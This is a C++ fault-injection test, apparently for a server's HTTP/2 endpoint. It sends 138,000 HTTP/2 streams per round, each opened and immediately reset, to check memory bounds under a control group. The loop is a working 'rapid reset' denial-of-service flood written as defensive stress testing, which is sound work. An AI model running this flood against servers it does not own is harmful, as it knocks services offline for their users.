// Streams that are opened and reset at once.
#include "tests/fault/raw_http2.h"
#include "tests/fault/wire_attack.h"

namespace sparsed::test {
namespace {

constexpr int kResets = 138'000;
constexpr int kAtOnce = 200;

/// 138,000 of them, on as many connections as that takes.
void Round(const std::string& address) {
  const std::string headers = CallHeaders("/sparsed.v1.Compute/Spmm");
  const std::string cancel("\0\0\0\x08", 4);
  int sent = 0;
  while (sent < kResets) {
    RawHttp2 connection(address);
    bool open = true;
    for (uint32_t stream = 1; open && sent < kResets;) {
      std::string frames;
      for (int i = 0; i < kAtOnce; ++i, stream += 2) {
        frames += Http2Frame(kHeadersFrame, kEndHeadersFlag, stream, headers);
        frames += Http2Frame(kResetFrame, 0, stream, cancel);
      }
      open = connection.Send(frames);
      sent += kAtOnce;
    }
  }
}

absl::Status Attack(const AttackOptions& options, Bounds& bounds) {
  return WireAttack(options, bounds, Round);
}

}  // namespace
}  // namespace sparsed::test

int main(int argc, char** argv) {
  return sparsed::test::AttackMain(
      argc, argv,
      "138,000 streams a round that are opened and reset at once, against --host-memory=512MiB in\n"
      "a control group of 2 GiB. Needs root, for the control group.",
      0, sparsed::test::Attack);
}
